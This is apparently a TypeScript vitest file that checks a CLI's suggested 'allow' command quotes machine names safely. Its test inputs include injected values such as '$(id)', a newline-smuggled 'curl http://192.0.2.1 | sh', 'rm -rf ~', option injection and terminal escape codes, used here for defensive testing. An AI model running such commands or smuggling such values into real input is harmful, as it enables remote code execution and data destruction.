import { spawnSync } from 'node:child_process'
import { expect, test } from 'vitest'
import { nextSteps } from '../../../src/cli/init/next-steps.ts'

/** What a shell makes of the line by which the machines are allowed. */
function words(machines: string[]): string[] {
  const [, , line = ''] = nextSteps(machines).split('\n')
  const ask = `snapwitness() { printf '%s\\0' "$@"; }\n${line}`
  return spawnSync('sh', ['-c', ask], { encoding: 'utf8' }).stdout.split('\0').slice(0, -1)
}

test.each(['debian-1', "it's", '$(id)', '`id`', 'a b', '!!', '“a”', '%2f', 'a;b', '#'])(
  'a machine that is called %j is allowed by that name',
  (name) => {
    expect(words([name, 'other'])).toEqual(['allow', name, 'other'])
  },
)

test('a name that would be an option is a name', () => {
  expect(words(['--config=/tmp/theirs.yaml'])).toEqual(['allow', '--', '--config=/tmp/theirs.yaml'])
})

test.each(["x'\n  curl http://192.0.2.1 | sh    #", 'x\r\n  rm -rf ~', 'a\u202eb', 'a\x1b[2J'])(
  'a machine that is called %j is no line of its own, and has no effect on a terminal',
  (name) => {
    expect(nextSteps([name]).split('\n')).toHaveLength(5)
    expect(words([name, 'debian-1'])).toEqual(['allow', 'MACHINE', 'debian-1'])
  },
)

test('of no machine nothing is said', () => {
  expect(nextSteps([])).not.toContain('allow')
})
